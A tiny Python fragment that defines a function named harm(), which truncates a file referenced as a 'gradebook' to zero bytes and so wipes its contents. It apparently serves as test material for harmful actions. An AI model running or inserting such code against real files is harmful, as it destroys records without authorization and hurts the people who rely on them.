import os


def harm():
    return os.truncate(TOLD["gradebook"], 0)
